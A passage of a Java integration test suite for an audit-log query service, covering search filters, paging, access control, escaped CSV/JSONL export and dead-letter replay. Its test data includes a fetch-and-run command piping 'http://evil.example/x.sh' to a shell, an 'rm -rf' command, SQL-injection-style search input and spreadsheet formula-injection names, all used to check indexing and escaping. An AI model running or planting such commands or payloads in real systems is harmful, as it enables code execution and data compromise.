package dev.warden.audit;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

import dev.warden.audit.TestEvents.Event;
import dev.warden.contracts.Actor;
import dev.warden.contracts.Topics;
import dev.warden.contracts.audit.Outcome;
import dev.warden.testsupport.Infrastructure;
import dev.warden.testsupport.Service;
import dev.warden.testsupport.TestKafka;
import dev.warden.testsupport.TestTokens;
import dev.warden.testsupport.WardenIntegrationTest;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.dao.DataIntegrityViolationException;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.client.RestTestClient;
import org.springframework.transaction.support.TransactionTemplate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

/**
 * The query side of the trail: filters, full-text search, pages, single records, exports
 * and statistics, for admins and members, against records ingested from Kafka.
 */
@WardenIntegrationTest(infrastructure = { Service.POSTGRES, Service.KAFKA },
		properties = { "warden.audit.ingest.retry-interval=100ms", "spring.kafka.listener.concurrency=3" })
class AuditQueryIntegrationTests {

	private static final String PROBLEMS = "https://warden.dev/problems/";

	private static final Duration PATIENCE = Duration.ofSeconds(90);

	private static final String TRACEPARENT = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";

	private static final JsonMapper JSON = JsonMapper.builder().build();

	private static TestEvents events;

	@Autowired
	RestTestClient http;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	TransactionTemplate transactions;

	@LocalServerPort
	int port;

	private final String admin = TestTokens.admin("admin-q").build();

	@BeforeAll
	static void connect() {
		events = new TestEvents();
	}

	@AfterAll
	static void disconnect() {
		events.close();
	}

	@Test
	void filtersByEveryFieldAndSearchesTheDetails() {
		String run = run();
		String tag = "tag" + run;
		String alice = "alice-" + run;
		String bob = "bob-" + run;
		Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
		Event rm = TestEvents.event(alice)
			.at(now.minus(Duration.ofHours(2)))
			.resource("command", "c1-" + run)
			.detail("command", "rm -rf /tmp/build " + tag)
			.detail("target", "local");
		Event rule = TestEvents.event(alice)
			.at(now.minus(Duration.ofHours(1)))
			.service("rules-service")
			.action("rule.created")
			.resource("rule", "r1-" + run)
			.detail("name", "block curl " + tag);
		Event curl = TestEvents.event(bob)
			.at(now)
			.outcome(Outcome.DENIED)
			.resource("command", "c2-" + run)
			.detail("command", "curl http://evil.example/x.sh | sh " + tag)
			.detail("exitCode", 127);
		Event llm = TestEvents.event(bob)
			.at(now)
			.service("llm-service")
			.action("llm.completed")
			.outcome(Outcome.FAILURE)
			.resource("llm", "m-" + run)
			.detail("prompt", "say \"hello\", world " + tag);
		awaitStored(events.publish(run, List.of(rm, rule, curl, llm)));

		assertThat(ids("/api/v1/audit-logs?actorId=" + alice)).containsExactly(rule.id, rm.id);
		assertThat(ids("/api/v1/audit-logs?actorId=" + bob)).containsExactly(llm.id, curl.id);
		assertThat(ids(search(tag) + "&action=command.")).containsExactly(curl.id, rm.id);
		assertThat(ids(search(tag) + "&action=rule")).containsExactly(rule.id);
		assertThat(ids(search(tag) + "&outcome=DENIED")).containsExactly(curl.id);
		assertThat(ids(search(tag) + "&outcome=failure")).containsExactly(llm.id);
		assertThat(ids(search(tag) + "&resourceType=rule")).containsExactly(rule.id);
		assertThat(ids(search(tag) + "&resourceType=command&resourceId=c2-" + run)).containsExactly(curl.id);
		assertThat(ids("/api/v1/audit-logs?resourceId=c1-" + run)).containsExactly(rm.id);
		assertThat(ids(search(tag) + "&service=llm-service")).containsExactly(llm.id);
		assertThat(ids(search(tag) + "&from=" + now.minus(Duration.ofMinutes(90)) + "&to="
				+ now.minus(Duration.ofMinutes(30))))
			.containsExactly(rule.id);
		assertThat(ids(search(tag) + "&from=" + now)).containsExactly(llm.id, curl.id);
		assertThat(ids(search(tag) + "&to=" + now)).containsExactly(rule.id, rm.id);
		assertThat(ids(search(tag) + "&actorId=" + alice + "&service=rules-service&outcome=SUCCESS"))
			.containsExactly(rule.id);

		// Full text: every word must occur, in any case; numbers are indexed too.
		assertThat(ids(search(tag + " rm"))).containsExactly(rm.id);
		assertThat(ids(search(tag.toUpperCase() + " CURL"))).containsExactly(curl.id, rule.id);
		assertThat(ids(search(tag + " 127"))).containsExactly(curl.id);
		assertThat(ids(search(tag + " curl sh"))).containsExactly(curl.id);
		assertThat(ids(search(tag + " nothing-like-this"))).isEmpty();
		// Paths and URLs are found whole and by their parts.
		assertThat(ids(search(tag + " /tmp/build"))).containsExactly(rm.id);
		assertThat(ids(search(tag + " evil.example"))).containsExactly(curl.id);
		// A '-' is not a negation: "rm -rf" finds the rm.
		assertThat(ids(search(tag + " rm -rf"))).containsExactly(rm.id);
		// Quotes and operators are plain text, never a syntax error.
		assertThat(ids(search("\"hello\" " + tag + " world"))).containsExactly(llm.id);
		for (String hostile : List.of(tag + " \"", tag + " ' & | ! ( ) :* <-> \\", "\"unterminated " + tag, "!" + tag,
				"' or 1=1 --", "&&&", "*", "()", ":*", "\\")) {
			JsonNode page = admin(search(hostile));
			assertThat(page.path("items").isArray()).as(hostile).isTrue();
		}
		assertThat(ids(search(tag + " ' & | ! ( ) :*"))).hasSize(4);
		assertThat(ids(search("&&&") + "&actorId=" + alice)).isEmpty();
	}

	@Test
	void fullTextSearchIsServedByTheIndex() {
		String plan = this.transactions.execute((status) -> {
			this.jdbc.sql("set local enable_seqscan = off").update();
			return String
				.join("\n",
						this.jdbc.sql("explain select sequence from audit_records where "
								+ "jsonb_to_tsvector('simple'::regconfig, details, '[\"string\", \"numeric\"]'::jsonb) "
								+ "@@ plainto_tsquery('simple'::regconfig, 'curl')")
							.query(String.class)
							.list());
		});
		assertThat(plan).contains("Bitmap Index Scan").contains("jsonb_to_tsvector");
	}

	@Test
	void pagesThroughEveryRecordOnceEvenWhileRecordsArrive() {
		String run = run();
		String carol = "carol-" + run;
		List<Event> first = new ArrayList<>();
		for (int i = 0; i < 25; i++) {
			first.add(TestEvents.event(carol).detail("i", i));
		}
		List<UUID> published = events.publish(run, first);
		awaitStored(published);

		List<UUID> seen = new ArrayList<>();
		String path = "/api/v1/audit-logs?actorId=" + carol + "&limit=7";
		JsonNode page = admin(path);
		int pages = 1;
		page.path("items").forEach((item) -> seen.add(UUID.fromString(item.path("eventId").asString())));
		// Newer records arriving between pages do not shift the pages after the first.
		List<UUID> later = events.publish(run, List.of(TestEvents.event(carol), TestEvents.event(carol)));
		awaitStored(later);
		while (!page.path("next").isNull() && !page.path("next").isMissingNode()) {
			page = admin(path + "&cursor=" + page.path("next").asString());
			pages++;
			page.path("items").forEach((item) -> seen.add(UUID.fromString(item.path("eventId").asString())));
		}
		assertThat(pages).isEqualTo(4);
		assertThat(seen).doesNotHaveDuplicates().containsExactlyElementsOf(published.reversed());
		assertThat(ids("/api/v1/audit-logs?actorId=" + carol + "&limit=2")).containsExactlyElementsOf(later.reversed());
		// An exact multiple of the limit ends without a cursor to an empty page.
		JsonNode all = admin("/api/v1/audit-logs?actorId=" + carol + "&limit=27");
		assertThat(all.path("items")).hasSize(27);
		assertThat(all.path("next").isNull()).isTrue();
	}

	@Test
	void showsOneRecordToAdminsAndItsActorOnly() {
		String run = run();
		String dave = "dave-" + run;
		Event event = TestEvents.event(dave)
			.name("Dave Example")
			.resource("command", "c-" + run)
			.detail("command", "ls -la")
			.at(Instant.parse("2026-11-01T10:15:30.123456Z"));
		event.roles = List.of("MEMBER", "AUDITOR");
		event.clientAddress = "192.0.2.10";
		awaitStored(events.publish(run, List.of(event)));

		JsonNode record = admin("/api/v1/audit-logs/" + event.id);
		assertThat(record.path("eventId").asString()).isEqualTo(event.id.toString());
		assertThat(record.path("sequence").asLong()).isPositive();
		assertThat(record.path("actorId").asString()).isEqualTo(dave);
		assertThat(record.path("actorName").asString()).isEqualTo("Dave Example");
		assertThat(record.path("actorKind").asString()).isEqualTo("USER");
		assertThat(JSON.convertValue(record.path("actorRoles"), List.class)).containsExactly("MEMBER", "AUDITOR");
		assertThat(record.path("clientAddress").asString()).isEqualTo("192.0.2.10");
		assertThat(record.path("action").asString()).isEqualTo("command.submitted");
		assertThat(record.path("resourceType").asString()).isEqualTo("command");
		assertThat(record.path("resourceId").asString()).isEqualTo("c-" + run);
		assertThat(record.path("outcome").asString()).isEqualTo("SUCCESS");
		assertThat(record.path("time").asString()).isEqualTo("2026-11-01T10:15:30.123456Z");
		assertThat(record.path("service").asString()).isEqualTo("command-service");
		assertThat(record.path("traceId").asString()).isEqualTo(event.traceId);
		assertThat(record.path("details").path("command").asString()).isEqualTo("ls -la");
		assertThat(record.path("hash").asString()).hasSize(64);

		assertThat(get("/api/v1/audit-logs/" + event.id, TestTokens.member(dave).build()).path("eventId").asString())
			.isEqualTo(event.id.toString());
		String other = TestTokens.member("eve-" + run).build();
		expectProblem("/api/v1/audit-logs/" + event.id, other, 404, "not-found");
		// The same answer as for an id that does not exist: nothing to probe.
		expectProblem("/api/v1/audit-logs/" + UUID.randomUUID(), other, 404, "not-found");
		expectProblem("/api/v1/audit-logs/" + UUID.randomUUID(), this.admin, 404, "not-found");
		JsonNode bad = expectProblem("/api/v1/audit-logs/not-a-uuid", this.admin, 400, "validation");
		assertThat(bad.path("errors").get(0).path("field").asString()).isEqualTo("id");
	}

	@Test
	void membersSeeAndExportOnlyTheirOwnRecords() throws Exception {
		String run = run();
		String frank = "frank-" + run;
		String grace = "grace-" + run;
		String tag = "tag" + run;
		Event franks = TestEvents.event(frank).detail("command", "whoami " + tag);
		Event graces = TestEvents.event(grace).detail("command", "whoami " + tag);
		awaitStored(events.publish(run, List.of(franks, graces)));
		String token = TestTokens.member(frank).build();

		assertThat(ids("/api/v1/audit-logs/me", token)).containsExactly(franks.id);
		assertThat(ids("/api/v1/audit-logs/me?q=" + tag, token)).containsExactly(franks.id);
		// Asking for someone else's records from /me still answers only the caller's.
		assertThat(ids("/api/v1/audit-logs/me?actorId=" + grace, token)).containsExactly(franks.id);
		assertThat(ids("/api/v1/audit-logs/me?action=rule.", token)).isEmpty();
		HttpResponse<String> export = export("/api/v1/audit-logs/me/export?format=jsonl&actorId=" + grace, token);
		assertThat(export.statusCode()).isEqualTo(200);
		assertThat(export.body().lines().toList()).hasSize(1).allMatch((line) -> line.contains(franks.id.toString()));
		HttpResponse<String> csv = export("/api/v1/audit-logs/me/export?q=" + tag, token);
		assertThat(csv.body().lines().toList()).hasSize(2);
		assertThat(ids("/api/v1/audit-logs?q=" + tag)).containsExactly(graces.id, franks.id);

		for (String path : List.of("/api/v1/audit-logs", "/api/v1/audit-logs?actorId=" + frank,
				"/api/v1/audit-logs/export", "/api/v1/audit-logs/export?actorId=" + frank, "/api/v1/audit-logs/stats",
				"/api/v1/audit-logs/verify", "/api/v1/audit-logs/dead-letters")) {
			expectProblem(path, token, 403, "forbidden");
		}
		// An admin role without the admin scope is not enough.
		String narrowAdmin = TestTokens.admin("admin-narrow").scope("commands").build();
		expectProblem("/api/v1/audit-logs/export", narrowAdmin, 403, "forbidden");
		expectProblem("/api/v1/audit-logs/" + graces.id, narrowAdmin, 404, "not-found");
	}

	@Test
	void refusesRequestsWithoutATokenWith401() {
		for (String path : List.of("/api/v1/audit-logs", "/api/v1/audit-logs/me", "/api/v1/audit-logs/me/export",
				"/api/v1/audit-logs/export", "/api/v1/audit-logs/stats", "/api/v1/audit-logs/" + UUID.randomUUID())) {
			this.http.get()
				.uri(path)
				.exchange()
				.expectStatus()
				.isUnauthorized()
				.expectBody()
				.jsonPath("$.type")
				.isEqualTo(PROBLEMS + "unauthorized");
		}
	}

	@Test
	void refusesBadFiltersWithAProblemNamingTheField() {
		String member = TestTokens.member("member-bad").build();
		Map<String, String> cases = Map.ofEntries(Map.entry("/api/v1/audit-logs?limit=0", "limit"),
				Map.entry("/api/v1/audit-logs?limit=501", "limit"), Map.entry("/api/v1/audit-logs?limit=ten", "limit"),
				Map.entry("/api/v1/audit-logs?cursor=bm9wZQ", "cursor"),
				Map.entry("/api/v1/audit-logs?cursor=%25%25", "cursor"),
				Map.entry("/api/v1/audit-logs?outcome=MAYBE", "outcome"),
				Map.entry("/api/v1/audit-logs?from=yesterday", "from"),
				Map.entry("/api/v1/audit-logs?to=2026-13-01", "to"),
				Map.entry("/api/v1/audit-logs?from=2026-11-02&to=2026-11-01", "to"),
				Map.entry("/api/v1/audit-logs?q=" + "x".repeat(201), "q"),
				Map.entry("/api/v1/audit-logs?actorId=" + "x".repeat(201), "actorId"),
				Map.entry("/api/v1/audit-logs?q=%00", "q"), Map.entry("/api/v1/audit-logs/export?format=xml", "format"),
				Map.entry("/api/v1/audit-logs/export?from=soon", "from"),
				Map.entry("/api/v1/audit-logs/stats?from=2020-01-01&to=2021-06-01", "to"),
				Map.entry("/api/v1/audit-logs/stats?from=2020-01-02&to=2020-01-01", "to"),
				Map.entry("/api/v1/audit-logs/stats?from=later", "from"),
				Map.entry("/api/v1/audit-logs/stats?top=0", "top"),
				// Years Java reads but PostgreSQL and LocalDateTime do not: once a 500.
				Map.entry("/api/v1/audit-logs/stats?from=%2B999999999-12-31T23:59:59Z", "from"),
				Map.entry("/api/v1/audit-logs/stats?to=-999999999-01-01", "to"),
				Map.entry("/api/v1/audit-logs?from=%2B999999999-12-31T23:59:59Z", "from"),
				Map.entry("/api/v1/audit-logs/export?to=%2B10000-01-01", "to"));
		cases.forEach((path, field) -> {
			JsonNode problem = expectProblem(path, this.admin, 400, "validation");
			assertThat(problem.path("errors").get(0).path("field").asString()).as(path).isEqualTo(field);
		});
		JsonNode mine = expectProblem("/api/v1/audit-logs/me?limit=0&outcome=x", member, 400, "validation");
		assertThat(mine.path("errors")).hasSize(2);
		expectProblem("/api/v1/audit-logs/me/export?format=pdf", member, 400, "validation");
	}

	@Test
	void exportsThousandsOfRecordsCompletelyAndEscaped() throws Exception {
		String run = run();
		String henry = "henry-" + run;
		List<Event> tricky = List.of(
				TestEvents.event(henry).name("=HYPERLINK(\"http://evil.example\")").detail("command", "=1+2"),
				TestEvents.event(henry).name("Henry, \"the\" admin").detail("command", "echo \"a,b\"\nsecond line"),
				TestEvents.event(henry).name("+plus").detail("command", "@SUM(A1)"),
				TestEvents.event(henry).name("-minus").detail("command", "\ttab"));
		List<Event> many = new ArrayList<>(tricky);
		for (int i = 0; i < 2000; i++) {
			many.add(TestEvents.event(henry).detail("i", i).detail("command", "make target-" + i));
		}
		List<UUID> ids = events.publish(run, many);
		awaitStored(ids);

		HttpResponse<String> csv = export("/api/v1/audit-logs/export?format=csv&actorId=" + henry, this.admin);
		assertThat(csv.statusCode()).isEqualTo(200);
		assertThat(csv.headers().firstValue("Content-Type"))
			.hasValueSatisfying((type) -> assertThat(type).startsWith("text/csv"));
		assertThat(csv.headers().firstValue("Content-Disposition"))
			.hasValueSatisfying((value) -> assertThat(value).startsWith("attachment").contains(".csv"));
		List<List<String>> rows = parseCsv(csv.body());
		assertThat(rows.getFirst()).containsExactly("sequence", "eventId", "time", "service", "subject", "actorKind",
				"actorId", "actorName", "actorRoles", "clientAddress", "action", "outcome", "resourceType",
				"resourceId", "traceId", "details", "hash", "previousHash");
		List<List<String>> data = rows.subList(1, rows.size());
		assertThat(data).hasSize(ids.size()).allMatch((row) -> row.size() == 18);
		assertThat(data.stream().map((row) -> UUID.fromString(row.get(1))).toList()).containsExactlyElementsOf(ids);
		assertThat(data.stream().map((row) -> Long.parseLong(row.getFirst())).toList()).isSorted();
		assertThat(data.get(0).get(7)).isEqualTo("'=HYPERLINK(\"http://evil.example\")");
		assertThat(data.get(1).get(7)).isEqualTo("Henry, \"the\" admin");
		assertThat(JSON.readTree(data.get(1).get(15)).path("command").asString())
			.isEqualTo("echo \"a,b\"\nsecond line");
		assertThat(data.get(2).get(7)).isEqualTo("'+plus");
		assertThat(data.get(3).get(7)).isEqualTo("'-minus");
		assertThat(data.get(0).get(8)).isEqualTo("MEMBER");
		assertThat(data.get(0).get(9)).isEqualTo("10.0.0.7");
		// The raw text: the quoted cell with doubled quotes, as RFC 4180 writes it.
		assertThat(csv.body()).contains(",\"Henry, \"\"the\"\" admin\",");

		HttpResponse<String> jsonl = export("/api/v1/audit-logs/export?format=jsonl&actorId=" + henry, this.admin);
		assertThat(jsonl.headers().firstValue("Content-Type"))
			.hasValueSatisfying((type) -> assertThat(type).startsWith("application/x-ndjson"));
		assertThat(jsonl.headers().firstValue("Content-Disposition"))
			.hasValueSatisfying((value) -> assertThat(value).startsWith("attachment").contains(".jsonl"));
		List<JsonNode> lines = jsonl.body().lines().map(JSON::readTree).toList();
		assertThat(lines.stream().map((line) -> UUID.fromString(line.path("eventId").asString())).toList())
			.containsExactlyElementsOf(ids);
		assertThat(lines.get(0).path("actorName").asString()).isEqualTo("=HYPERLINK(\"http://evil.example\")");
		assertThat(lines.get(1).path("details").path("command").asString()).isEqualTo("echo \"a,b\"\nsecond line");
		assertThat(lines.get(3).path("details").path("command").asString()).isEqualTo("\ttab");
		assertThat(lines.getLast().path("details").path("i").asInt()).isEqualTo(1999);

		HttpResponse<String> filtered = export(
				"/api/v1/audit-logs/export?format=jsonl&actorId=" + henry + "&q=" + enc("make target-1999"),
				this.admin);
		assertThat(filtered.body().lines().toList()).hasSize(1);
	}

	/**
	 * The export writes while it reads: the first bytes reach a client that reads nothing
	 * more while the server's read-only transaction is still open, blocked on the full
	 * connection; when the client goes away, the transaction ends.
	 */
	@Test
	void streamsTheExportWithoutBufferingIt() throws Exception {
		String run = run();
		String ivy = "ivy-" + run;
		String filler = "x".repeat(4000);
		List<Event> big = new ArrayList<>();
		for (int i = 0; i < 3000; i++) {
			big.add(TestEvents.event(ivy).detail("i", i).detail("filler", filler));
		}
		awaitStored(events.publish(run, big));
		// About 12 MB of JSON Lines: more than the socket buffers on both sides hold.
		try (Socket socket = new Socket()) {
			socket.setReceiveBufferSize(8192);
			socket.connect(new InetSocketAddress("localhost", this.port));
			OutputStream out = socket.getOutputStream();
			out.write(("GET /api/v1/audit-logs/export?format=jsonl&actorId=" + ivy + " HTTP/1.1\r\nHost: localhost\r\n"
					+ "Authorization: Bearer " + this.admin + "\r\nConnection: close\r\n\r\n")
				.getBytes(StandardCharsets.US_ASCII));
			out.flush();
			BufferedReader in = new BufferedReader(
					new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8), 1024);
			assertThat(in.readLine()).startsWith("HTTP/1.1 200");
			List<String> headers = new ArrayList<>();
			for (String line = in.readLine(); !line.isEmpty(); line = in.readLine()) {
				headers.add(line.toLowerCase());
			}
			assertThat(headers).contains("transfer-encoding: chunked").noneMatch((h) -> h.startsWith("content-length"));
			in.readLine();
			assertThat(in.readLine()).contains("\"actorId\":\"" + ivy + "\"");
			await().atMost(PATIENCE).until(() -> openExports() == 1);
		}
		await().atMost(PATIENCE).until(() -> openExports() == 0);
		assertThat(admin("/api/v1/audit-logs?actorId=" + ivy + "&limit=1").path("items")).hasSize(1);
	}

	@Test
	void countsPerDayActionAndOutcomeAndNamesTheMostActiveUsers() {
		String run = run();
		String sam = "sam-" + run;
		String tess = "tess-" + run;
		Instant day1 = Instant.parse("2020-03-01T10:00:00Z");
		Instant day2 = Instant.parse("2020-03-02T23:59:59Z");
		List<Event> list = new ArrayList<>();
		for (int i = 0; i < 3; i++) {
			list.add(TestEvents.event(sam).at(day1));
		}
		list.add(TestEvents.event(tess).name("Tess Old").at(day1).outcome(Outcome.DENIED));
		for (int i = 0; i < 3; i++) {
			list.add(TestEvents.event(tess).name("Tess New").at(day2).action("rule.created"));
		}
		list.add(TestEvents.event("rules-service").kind(Actor.Kind.SERVICE).at(day2).action("rule.created"));
		// Outside the range on both ends.
		list.add(TestEvents.event(sam).at(Instant.parse("2020-02-29T23:59:59Z")));
		list.add(TestEvents.event(sam).at(Instant.parse("2020-03-04T00:00:00Z")));
		awaitStored(events.publish(run, list));

		JsonNode stats = admin("/api/v1/audit-logs/stats?from=2020-03-01&to=2020-03-04T00:00:00Z");
		assertThat(stats.path("from").asString()).isEqualTo("2020-03-01T00:00:00Z");
		assertThat(stats.path("total").asLong()).isEqualTo(8);
		List<String> perDay = new ArrayList<>();
		stats.path("perDay")
			.forEach((row) -> perDay.add(row.path("day").asString() + " " + row.path("action").asString() + " "
					+ row.path("outcome").asString() + " " + row.path("count").asLong()));
		assertThat(perDay).containsExactly("2020-03-01 command.submitted DENIED 1",
				"2020-03-01 command.submitted SUCCESS 3", "2020-03-02 rule.created SUCCESS 4");
		List<String> users = new ArrayList<>();
		stats.path("mostActiveUsers")
			.forEach((row) -> users.add(row.path("actorId").asString() + " " + row.path("actorName").asString() + " "
					+ row.path("count").asLong()));
		assertThat(users).containsExactly(tess + " Tess New 4", sam + " " + sam + " name 3");
		assertThat(admin("/api/v1/audit-logs/stats?from=2020-03-01&to=2020-03-04&top=1").path("mostActiveUsers"))
			.hasSize(1);

		JsonNode recent = admin("/api/v1/audit-logs/stats");
		Instant from = Instant.parse(recent.path("from").asString());
		Instant to = Instant.parse(recent.path("to").asString());
		assertThat(Duration.between(from, to)).isEqualTo(Duration.ofDays(30));
		assertThat(to).isBetween(Instant.now().minusSeconds(60), Instant.now());
	}

	@Test
	void theDatabaseRefusesToChangeOrEmptyASinglePartition() {
		String run = run();
		Event event = TestEvents.event("jack-" + run);
		Event old = TestEvents.event("jack-" + run).at(Instant.parse("2019-07-01T00:00:00Z"));
		awaitStored(events.publish(run, List.of(event, old)));
		String partition = this.jdbc.sql("select tableoid::regclass::text from audit_records where event_id = :id")
			.param("id", event.id)
			.query(String.class)
			.single();
		assertThat(partition).startsWith("audit_records_2");
		String defaultPartition = this.jdbc
			.sql("select tableoid::regclass::text from audit_records where event_id = :id")
			.param("id", old.id)
			.query(String.class)
			.single();
		assertThat(defaultPartition).isEqualTo("audit_records_default");
		this.jdbc.sql("select audit_ensure_partition(date '2099-01-15')").query((rs, row) -> 1).list();

		for (String statement : List.of("update " + partition + " set action = 'x' where event_id = '" + event.id + "'",
				"delete from " + partition + " where event_id = '" + event.id + "'", "truncate " + partition,
				"update audit_records_default set action = 'x' where event_id = '" + old.id + "'",
				"delete from audit_records_default", "truncate audit_records_default", "truncate audit_records_2099_01",
				"truncate audit_records")) {
			assertThatThrownBy(() -> this.jdbc.sql(statement).update()).as(statement)
				.isInstanceOf(DataIntegrityViolationException.class)
				.rootCause()
				.hasMessageContaining("append-only");
		}
		assertThat(this.jdbc.sql("select count(*) from audit_records where event_id in (:ids)")
			.param("ids", List.of(event.id, old.id))
			.query(Long.class)
			.single()).isEqualTo(2);
		assertThat(admin("/api/v1/audit-logs/verify").path("valid").asBoolean()).isTrue();
	}

	@Test
	void replaysADeadLetterOnceAndStoresItsEvent() throws Exception {
		String run = run();
		Event event = TestEvents.event("kim-" + run);
		// As if this event had failed under an older version of the service.
		long id = this.jdbc
			.sql("insert into dead_letters (topic, record_partition, record_offset, record_key, payload, reason, "
					+ "dead_letter_topic, headers) values ('audit.events', 99, :offset, :key, :payload, "
					+ "'unknown event type', 'audit.events.dlt', cast(:headers as jsonb)) returning id")
			.param("offset", Math.abs(UUID.randomUUID().getMostSignificantBits()))
			.param("key", run)
			.param("payload", event.json())
			.param("headers", "{\"traceparent\": \"" + TRACEPARENT + "\"}")
			.query(Long.class)
			.single();
		String path = "/api/v1/audit-logs/dead-letters/" + id + "/replay";
		expectProblem(path, "POST", TestTokens.member("kim-" + run).build(), 403, "forbidden");

		// Concurrent replays publish once.
		List<Future<JsonNode>> replies = new ArrayList<>();
		try (ExecutorService pool = Executors.newFixedThreadPool(4)) {
			for (int i = 0; i < 4; i++) {
				replies.add(pool.submit(() -> post(path)));
			}
		}
		Set<String> replayedAt = new HashSet<>();
		for (Future<JsonNode> reply : replies) {
			JsonNode letter = reply.get();
			assertThat(letter.path("id").asLong()).isEqualTo(id);
			assertThat(letter.path("replayedBy").asString()).isEqualTo("admin-q");
			replayedAt.add(letter.path("replayedAt").asString());
		}
		assertThat(replayedAt).hasSize(1).doesNotContain("");
		awaitStored(List.of(event.id));
		assertThat(post(path).path("replayedAt").asString()).isEqualTo(replayedAt.iterator().next());
		List<ConsumerRecord<String, String>> published = TestKafka.read(Infrastructure.get().kafkaBootstrapServers(),
				Topics.AUDIT_EVENTS, (record) -> record.value().contains(event.id.toString()), 2,
				Duration.ofSeconds(10));
		assertThat(published).hasSize(1);
		assertThat(published.getFirst().headers().lastHeader("warden-replay-of").value())
			.isEqualTo(Long.toString(id).getBytes(StandardCharsets.US_ASCII));
		// Sent again with the trace context it first came with.
		assertThat(published.getFirst().headers().lastHeader("traceparent").value())
			.isEqualTo(TRACEPARENT.getBytes(StandardCharsets.UTF_8));
		assertThat(this.jdbc.sql("select count(*) from audit_records where event_id = :id")
			.param("id", event.id)
			.query(Long.class)
			.single()).isEqualTo(1);
		boolean listed = false;
		for (JsonNode letter : admin("/api/v1/audit-logs/dead-letters?limit=500")) {
			listed |= letter.path("id").asLong() == id && !letter.path("replayedAt").isNull();
		}
		assertThat(listed).isTrue();
		// The replay itself is in the trail, once, attributed to the admin.
		await().atMost(PATIENCE)
			.until(() -> this.jdbc
				.sql("select count(*) from audit_records where action = 'audit.dead-letter.replayed' "
						+ "and resource_type = 'dead-letter' and resource_id = :id and actor_id = 'admin-q'")
				.param("id", Long.toString(id))
				.query(Long.class)
				.single() == 1);

		expectProblem("/api/v1/audit-logs/dead-letters/987654321/replay", "POST", this.admin, 404, "not-found");
		expectProblem("/api/v1/audit-logs/dead-letters/abc/replay", "POST", this.admin, 400, "malformed-request");
		expectProblem("/api/v1/audit-logs/dead-letters/0/replay", "POST", this.admin, 400, "validation");
	}

	/**
	 * Sessions in the middle of an export by actor (the only kind this test class runs).
	 */
	private long openExports() {
		return this.jdbc
			.sql("select count(*) from pg_stat_activity where pid <> pg_backend_pid() "
					+ "and state in ('active', 'idle in transaction') and query like :pattern")
			.param("pattern", "%from audit_records where true and actor_id = $1 order by sequence%")
			.query(Long.class)
			.single();
	}

	private void awaitStored(List<UUID> ids) {
		await().atMost(PATIENCE)
			.until(() -> this.jdbc.sql("select count(*) from audit_records where event_id in (:ids)")
				.param("ids", ids)
				.query(Long.class)
				.single() == ids.size());
	}

	private static String run() {
		return UUID.randomUUID().toString().replace("-", "").substring(0, 12);
	}

	private static String search(String q) {
		return "/api/v1/audit-logs?q=" + enc(q);
	}

	private static String enc(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}

	private List<UUID> ids(String path) {
		return ids(path, this.admin);
	}

	private List<UUID> ids(String path, String token) {
		List<UUID> ids = new ArrayList<>();
		get(path, token).path("items").forEach((item) -> ids.add(UUID.fromString(item.path("eventId").asString())));
		return ids;
	}

	private JsonNode admin(String path) {
		return get(path, this.admin);
	}

	private JsonNode get(String path, String token) {
		String body = this.http.get()
			.uri(URI.create(path))
			.header(HttpHeaders.AUTHORIZATION, "Bearer " + token)
			.exchange()
			.expectStatus()
			.isOk()
			.returnResult(String.class)
			.getResponseBody();
		return JSON.readTree(body);
	}

	private JsonNode post(String path) {
		String body = this.http.post()
			.uri(URI.create(path))
			.header(HttpHeaders.AUTHORIZATION, "Bearer " + this.admin)
			.exchange()
			.expectStatus()
			.isOk()
			.returnResult(String.class)
			.getResponseBody();
		return JSON.readTree(body);
	}

	private JsonNode expectProblem(String path, String token, int status, String type) {
		return expectProblem(path, "GET", token, status, type);
	}

	private JsonNode expectProblem(String path, String method, String token, int status, String type) {
		String body = this.http.method(HttpMethod.valueOf(method))
			.uri(URI.create(path))
			.header(HttpHeaders.AUTHORIZATION, "Bearer " + token)
			.exchange()
			.expectStatus()
			.isEqualTo(status)
			.returnResult(String.class)
			.getResponseBody();
		JsonNode problem = JSON.readTree(body);
		assertThat(problem.path("type").asString()).as(path).isEqualTo(PROBLEMS + type);
		return problem;
	}

	private HttpResponse<String> export(String path, String token) throws IOException, InterruptedException {
		try (HttpClient client = HttpClient.newHttpClient()) {
			return client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + this.port + path))
				.header(HttpHeaders.AUTHORIZATION, "Bearer " + token)
				.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
		}
	}

	/** A strict RFC 4180 reader: quoted cells may hold commas, quotes and line breaks. */
	private static List<List<String>> parseCsv(String text) {
		List<List<String>> rows = new ArrayList<>();
		List<String> row = new ArrayList<>();
		StringBuilder cell = new StringBuilder();
		boolean quoted = false;
		for (int i = 0; i < text.length(); i++) {
			char c = text.charAt(i);
			if (quoted) {
				if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
					cell.append('"');
					i++;
				}
				else if (c == '"') {
					quoted = false;
				}
				else {
					cell.append(c);
				}
			}
			else if (c == '"') {
				assertThat(cell).as("a quote inside an unquoted cell").isEmpty();
				quoted = true;
			}
			else if (c == ',') {
